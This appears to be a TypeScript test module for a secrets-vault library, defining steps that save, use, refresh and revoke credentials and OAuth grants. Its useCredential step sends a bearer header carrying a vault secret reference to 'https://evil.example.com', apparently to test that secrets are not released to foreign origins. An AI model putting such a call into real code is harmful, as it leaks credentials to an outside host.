/** Credentials, grants and the use of secrets as steps. */

import type { ItemRef } from 'cofferkit'
import { secretOf } from './contents.js'
import { needLiveVault, type Planner, type Target, vaultPlace } from './core-steps.js'
import { type Effect, nothing } from './model.js'
import { apiOrigin } from './provider.js'
import { assertSilent, type Plan } from './world.js'

const accounts = ['live', 'test']
/** Values of grants. */
const usable = 'usable'
const doubtful = 'doubtful'
/** A grant that no process can use until it is saved again. */
export const revoked = 'revoked'

/** Every step by its name. */
export const credentialSteps = {
  saveCredential(target) {
    const { world, vaultId } = target
    const account = accountOf(target)
    const mark = world.nextMark()
    world.lives.plan(credentialPlace(vaultId, account), mark)
    const saved: Effect = { can: () => true, to: () => mark, mark }
    return changeCredential(target, saved, ({ credentials }, caller) =>
      credentials.of(caller, vaultId).save('api', { key: secretOf(mark) }, { account }),
    )
  },

  removeCredential(target) {
    const { vaultId } = target
    const account = accountOf(target)
    const removed: Effect = { can: (value) => value !== nothing, to: () => nothing }
    return changeCredential(target, removed, ({ credentials }, caller) =>
      credentials.of(caller, vaultId).remove('api', { account }),
    )
  },

  /** The value is sent to its own origin, and to another one. The response is an echo. */
  useCredential(target) {
    const { world, vaultId } = target
    const itemId = world.credentialIds.get(credentialPlace(vaultId, accountOf(target)))
    if (itemId === undefined) return undefined
    return {
      effects: new Map(),
      isUncertain: true,
      isRecorded: false,
      async call({ createFetch }, caller) {
        const secretFetch = createFetch(caller)
        const headers = { authorization: `Bearer {{ op://${vaultId}/${itemId}/key }}` }
        await secretFetch('https://evil.example.com', { headers }).catch(() => {})
        const response = await secretFetch(apiOrigin, { headers })
        assertSilent('a response', await response.text())
      },
    }
  },

  /** A refresh token is used by its keeper alone. */
  useRefreshToken(target) {
    const { world, vaultId } = target
    const place = `grant ${vaultId}/${accountOf(target)}`
    const ref = world.grants.get(place)
    if (ref === undefined) return undefined
    const refused: Effect = { can: () => false, to: (value) => value }
    return {
      effects: new Map([[place, refused]]),
      isRecorded: false,
      call: ({ service }, caller) =>
        service.useField(caller, {
          ...ref,
          field: 'refresh_token',
          use: { origin: apiOrigin, method: 'GET' },
        }),
    }
  },

  saveGrant(target) {
    const { world, vaultId } = target
    const place = `grant ${vaultId}/${accountOf(target)}`
    const saved: Effect = { can: () => true, to: () => usable }
    return {
      effects: new Map([
        [vaultPlace(vaultId), needLiveVault],
        [place, saved],
      ]),
      isRecorded: false,
      call: ({ grants }) =>
        grants.save(vaultId, {
          name: accountOf(target),
          origins: [apiOrigin],
          ...world.provider.issue(),
        }),
      done: (ref) => void world.grants.set(place, ref as ItemRef),
    }
  },

  /** A token of the grant is returned, after it was refreshed if it has expired. */
  useGrant(target) {
    const { world, vaultId } = target
    const place = `grant ${vaultId}/${accountOf(target)}`
    const ref = world.grants.get(place)
    if (ref === undefined) return undefined
    const used: Effect = {
      can: (value) => value !== nothing && value !== revoked,
      to: (value) => value,
    }
    return {
      effects: new Map([[place, used]]),
      isRecorded: false,
      cannotRollBack: true,
      isUncertain: world.model.possible(place).has(doubtful),
      call: ({ keeper }, caller) => keeper.accessToken(ref, caller),
      // The provider may have issued tokens that were lost with their process.
      unknown: () => world.model.set(place, doubtful),
    }
  },

  /** No process returns a token of the grant until it is saved again. */
  revokeGrant(target) {
    const { world, vaultId } = target
    const place = `grant ${vaultId}/${accountOf(target)}`
    const ref = world.grants.get(place)
    if (ref === undefined) return undefined
    return {
      effects: new Map([[place, { can: (value) => value !== nothing, to: () => revoked }]]),
      isRecorded: false,
      cannotRollBack: true,
      isUncertain: world.model.possible(place).has(doubtful),
      call: ({ keeper }) => keeper.revoke(ref, async (token) => world.provider.revoke(token)),
      // The provider may have revoked tokens that are still stored.
      unknown: () => world.model.set(place, doubtful),
    }
  },
} satisfies Readonly<Record<string, Planner>>

/** Returns the place of a credential. */
export function credentialPlace(vaultId: string, account: string): string {
  return `credential ${vaultId}/${account}`
}

function accountOf({ itemId }: Target): string {
  return accounts[itemId.charCodeAt(0) % accounts.length] ?? ''
}

function changeCredential(target: Target, effect: Effect, call: Plan['call']): Plan {
  const place = credentialPlace(target.vaultId, accountOf(target))
  return {
    effects: new Map([
      [vaultPlace(target.vaultId), needLiveVault],
      [place, effect],
    ]),
    call,
  }
}
